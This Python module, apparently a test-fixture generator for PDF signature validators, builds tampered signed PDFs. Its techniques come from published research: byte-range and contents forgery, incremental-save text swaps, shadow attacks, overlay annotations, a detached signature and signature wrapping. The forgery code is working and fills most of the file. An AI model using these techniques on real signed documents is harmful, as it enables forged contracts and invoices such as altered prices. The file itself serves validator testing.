"""Signed PDFs that are not what they seem, made byte by byte from a good one: each kind of attack
on signatures that is known. What is changed, and how a reader would be deceived, stands in each.

Mladenov et al., « 1 Trillion Dollar Refund » (CCS 2019): forgery, incremental saving, wrapping;
Mainka et al., « Shadow Attacks » (NDSS 2021); Rohlmann et al., « Breaking the Specification »
(S&P 2021): boxes and notes laid over what was signed.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Mapping

import pikepdf

DEBUT_XREF = re.compile(rb"startxref\s+(\d+)\s+%%EOF\s*$")
ETENDUE = re.compile(rb"/ByteRange \[\s*(\d+) (\d+) (\d+) (\d+)\s*\] *")


def etendue(pdf: bytes) -> tuple[int, int, int, int]:
    """What the last signature says that it covers."""
    *_, m = ETENDUE.finditer(pdf)
    return tuple(int(x) for x in m.groups())  # type: ignore[return-value]


def signe(pdf: bytes) -> bytes:
    """The bytes that the last signature covers."""
    a, n, b, m = etendue(pdf)
    return pdf[a : a + n] + pdf[b : b + m]


def cms(pdf: bytes) -> bytes:
    """The last signature itself (DER, then zeros)."""
    _, n, b, _ = etendue(pdf)
    return bytes.fromhex(pdf[n + 1 : b - 1].decode())


def objet(pdf: bytes, n: int) -> bytes:
    """An object that stands in the open, as its last version has it."""
    *_, m = re.finditer(rb"\n%d 0 obj\s(.*?)\sendobj" % n, pdf, re.S)
    return m[1]


def ajouter(pdf: bytes, objets: Mapping[int, bytes]) -> bytes:
    """A further version of the document, with these objects: an incremental update."""
    precedent = int(DEBUT_XREF.search(pdf)[1])
    with pikepdf.open(io.BytesIO(pdf)) as lu:
        taille, racine = int(lu.trailer.Size), lu.Root.objgen[0]
    n = max(taille, *(x + 1 for x in objets))
    sortie, places = bytearray(pdf), {}
    for numero, corps in objets.items():
        places[numero] = len(sortie)
        sortie += b"%d 0 obj\n%s\nendobj\n" % (numero, corps)
    debut = places[n] = len(sortie)
    sortie += table(n, places, racine, precedent)
    return bytes(sortie) + b"startxref\n%d\n%%%%EOF\n" % debut


def table(n: int, places: Mapping[int, int], racine: int, precedent: int) -> bytes:
    """A table of objects, as a stream of number `n`."""
    lignes = b"".join(b"\x01%s\0\0" % places[x].to_bytes(8, "big") for x in sorted(places))
    index = " ".join(f"{x} 1" for x in sorted(places))
    return (
        b"%d 0 obj\n<< /Type /XRef /W [ 1 8 2 ] /Index [ %s ] /Size %d /Root %d 0 R /Prev %d "
        b"/Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (n, index.encode(), n + 1, racine, precedent, len(lignes), lignes)
    )


def flux(contenu: bytes, tete: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (tete, len(contenu), contenu)


def numeros(pdf: bytes) -> dict[str, int]:
    """The objects that attacks change: catalogue, first page, its text, each field; the next."""
    with pikepdf.open(io.BytesIO(pdf)) as lu:
        page = lu.pages[0].obj
        champs = {str(x.T): x.objgen[0] for x in lu.Root.AcroForm.Fields}
        textes = page.Contents if isinstance(page.Contents, pikepdf.Array) else [page.Contents]
        return {
            "racine": lu.Root.objgen[0],
            "page": page.objgen[0],
            "pages": lu.Root.Pages.objgen[0],
            "texte": textes[0].objgen[0],
            "signature": max(
                (x.V.objgen[0] for x in lu.Root.AcroForm.Fields if "/V" in x), default=0
            ),
            "neuf": int(lu.trailer.Size) + 8,
            **champs,
        }


def corps(pdf: bytes, n: int) -> bytes:
    """An object as bytes, wherever it stands."""
    with pikepdf.open(io.BytesIO(pdf)) as lu:
        return lu.get_object(n, 0).unparse(resolved=True)


def annoter(page: bytes, n: int) -> bytes:
    """The page with one more annotation."""
    if b"/Annots [" in page:
        return page.replace(b"/Annots [", b"/Annots [ %d 0 R" % n)
    assert b"/Annots" not in page
    return page.removesuffix(b">>") + b"/Annots [ %d 0 R ] >>" % n


def remplacer(pdf: bytes, avant: bytes, apres: bytes) -> bytes:
    """In place, the size kept."""
    assert len(apres) <= len(avant) and avant in pdf
    i = pdf.rindex(avant)
    return pdf[:i] + apres.ljust(len(avant)) + pdf[i + len(avant) :]


# ------------------------------------------------------------------- on a document that is signed


def _etendue(par: bytes) -> Callable[[bytes], bytes]:
    return lambda pdf: remplacer(
        pdf, ETENDUE.findall(pdf) and list(ETENDUE.finditer(pdf))[-1][0], par
    )


def _contenu(par: bytes) -> Callable[[bytes], bytes]:
    def faire(pdf: bytes) -> bytes:
        _, n, b, _ = etendue(pdf)
        debut = pdf.rindex(b"/Contents", 0, n)
        return pdf[:debut] + par.ljust(b - debut) + pdf[b:]

    return faire


def altere(pdf: bytes) -> bytes:
    """One letter of what was signed."""
    return pdf.replace(b"/DisplayDocTitle", b"/DisplayDocTotle", 1)


def bourre(pdf: bytes) -> bytes:
    """Something else in the room that the signature leaves empty, which nothing signs."""
    _, _, b, _ = etendue(pdf)
    return pdf[: b - 9] + b"4D5A9000" + pdf[b - 1 :]


def texte_change(pdf: bytes) -> bytes:
    """A further version whose first page says something else."""
    return ajouter(pdf, {numeros(pdf)["texte"]: flux(b"BT ET")})


def sans_table(pdf: bytes) -> bytes:
    """Objects after the end, with no table: a viewer that repairs takes them."""
    return pdf + b"\n%d 0 obj\n%s\nendobj\n" % (numeros(pdf)["texte"], flux(b"BT ET"))


def sans_table_et_fin(pdf: bytes) -> bytes:
    """The same, ended as the document ends."""
    return sans_table(pdf) + DEBUT_XREF.search(pdf)[0]


def autres_pages(pdf: bytes) -> bytes:
    """Another tree of pages, which the catalogue shows from now on."""
    n = numeros(pdf)
    racine = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % n["neuf"], corps(pdf, n["racine"]))
    feuille = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % n["neuf"]
    pages = b"<< /Type /Pages /Count 1 /Kids [ %d 0 R ] >>" % (n["neuf"] + 1)
    return ajouter(pdf, {n["racine"]: racine, n["neuf"]: pages, n["neuf"] + 1: feuille})


def note_par_dessus(pdf: bytes) -> bytes:
    """A note that covers the page with another text."""
    n = numeros(pdf)
    avec = annoter(corps(pdf, n["page"]), n["neuf"])
    note = (
        b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 595 842] /F 4 /DA (/Helv 12 Tf) "
        b"/Contents (autre prix) /AP << /N %d 0 R >> >>" % (n["neuf"] + 1)
    )
    dessin = flux(b"1 g 0 0 595 842 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]")
    return ajouter(pdf, {n["page"]: avec, n["neuf"]: note, n["neuf"] + 1: dessin})


def signature_detachee(pdf: bytes) -> bytes:
    """The field says that it was never signed."""
    n = numeros(pdf)
    sans = re.sub(rb"/V \d+ 0 R", b"", corps(pdf, n["prestataire"]))
    return ajouter(pdf, {n["prestataire"]: sans})


def champ_elargi(pdf: bytes) -> bytes:
    """The signed box is made as large as the page, over its text."""
    n = numeros(pdf)
    large = re.sub(rb"/Rect \[[^\]]*\]", b"/Rect [0 0 595 842]", corps(pdf, n["prestataire"]))
    return ajouter(pdf, {n["prestataire"]: large})


def enveloppe(pdf: bytes) -> bytes:
    """Wrapping: what followed the signature goes to the end, unchanged, and a copy of the signature
    says so. Where the table of objects stood, another one shows other objects."""
    debut, n, b, m = etendue(pdf)
    x = int(DEBUT_XREF.search(pdf)[1])
    vues = numeros(pdf)
    if x < b:
        raise AssertionError("the table is in the second part")
    with pikepdf.open(io.BytesIO(pdf)) as lu:
        taille, racine = int(lu.trailer.Size), lu.Root.objgen[0]
    avant = pdf[:b] + b"\n".rjust(x - b)
    precedent = int(re.findall(rb"/Prev (\d+)", pdf)[-1])
    for fin in range(20_000, 200_000, 20_000):  # where the second part goes
        signature = objet_signature(pdf, vues["signature"], (debut, n, fin, m))
        objets = {vues["signature"]: signature, vues["texte"]: flux(b"BT ET")}
        longueur = len(table(taille, dict.fromkeys((*objets, taille), 0), racine, precedent))
        places, corps_ = {taille: len(avant)}, bytearray()
        for numero, dit in objets.items():
            places[numero] = len(avant) + longueur + len(corps_)
            corps_ += b"%d 0 obj\n%s\nendobj\n" % (numero, dit)
        tout = avant + table(taille, places, racine, precedent) + corps_
        if len(tout) <= fin:
            return tout + b"\n".rjust(fin - len(tout)) + pdf[b:]
    raise AssertionError("too long")


def objet_signature(pdf: bytes, n: int, nouvelle: tuple[int, int, int, int]) -> bytes:
    """The signature's own object, with another extent."""
    *_, m = re.finditer(rb"\n%d 0 obj\s(.*?)\sendobj" % n, pdf, re.S)
    dit = b"/ByteRange [%d %d %d %d]" % nouvelle
    return ETENDUE.sub(dit, m[1])


SUR_UN_SIGNE: dict[str, Callable[[bytes], bytes]] = {
    "altéré": altere,
    "bourré": bourre,
    "forgé : sans étendue": _etendue(b"/Zz 0"),
    "forgé : étendue nulle": _etendue(b"/ByteRange null"),
    "forgé : étendue vide": _etendue(b"/ByteRange []"),
    "forgé : étendue de rien": _etendue(b"/ByteRange [0 0 0 0]"),
    "forgé : étendue d'un octet": _etendue(b"/ByteRange [0 1 1 1]"),
    "forgé : étendue négative": _etendue(b"/ByteRange [0 -1 9 -9]"),
    "forgé : étendue de mots": _etendue(b"/ByteRange [/a /b (c) null]"),
    "forgé : sans contenu": _contenu(b"/Zz null"),
    "forgé : contenu nul": _contenu(b"/Contents null"),
    "forgé : contenu vide": _contenu(b"/Contents <>"),
    "forgé : contenu de zéros": _contenu(b"/Contents <00>"),
    "forgé : contenu d'autre chose": _contenu(b"/Contents <3006020101020102>"),
    "enregistré : texte": texte_change,
    "enregistré : sans table": sans_table,
    "enregistré : sans table, avec une fin": sans_table_et_fin,
    "ombre : autres pages": autres_pages,
    "note par-dessus": note_par_dessus,
    "cadre élargi": champ_elargi,
    "détachée": signature_detachee,
    "enveloppé": enveloppe,
}


# ------------------------------------------------------- laid before the signature, sprung after it


def cacher(pdf: bytes) -> bytes:
    """Before: a white sheet over the page's text."""
    n = numeros(pdf)
    page = re.sub(
        rb"/Contents (\d+ 0 R)", rb"/Contents [ \1 %d 0 R ]" % n["neuf"], corps(pdf, n["page"])
    )
    return ajouter(pdf, {n["page"]: page, n["neuf"]: flux(b"1 g 0 0 595 842 re f 0 g")})


def devoiler(pdf: bytes, avant: bytes) -> bytes:
    """After: the sheet is gone."""
    return ajouter(pdf, {numeros(avant)["neuf"]: flux(b"")})


def champ_de_texte(pdf: bytes) -> bytes:
    """Before: a field that shows a price."""
    n = numeros(pdf)
    racine = re.sub(rb"/Fields \[", b"/Fields [ %d 0 R" % n["neuf"], corps(pdf, n["racine"]))
    page = annoter(corps(pdf, n["page"]), n["neuf"])
    return ajouter(
        pdf,
        {
            n["racine"]: racine,
            n["page"]: page,
            n["neuf"]: _prix(n["neuf"], b"100"),
            n["neuf"] + 1: _dessin(b"0 g"),
        },
    )


def changer_le_champ(pdf: bytes, avant: bytes) -> bytes:
    """After: it shows another."""
    n = numeros(avant)["neuf"]
    return ajouter(pdf, {n: _prix(n, b"900"), n + 1: _dessin(b"1 0 0 rg")})


def _prix(n: int, prix: bytes) -> bytes:
    return (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (prix) /V (%s) /DA (/Helv 12 Tf 0 g) /F 4 "
        b"/Rect [300 400 400 420] /AP << /N %d 0 R >> >>" % (prix, n + 1)
    )


def _dessin(couleur: bytes) -> bytes:
    return flux(couleur + b" 0 0 90 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 100 20]")


# Kind → what is laid before, what is sprung after.
OMBRES = {
    "ombre : cacher": (cacher, devoiler),
    "ombre : remplacer": (champ_de_texte, changer_le_champ),
}
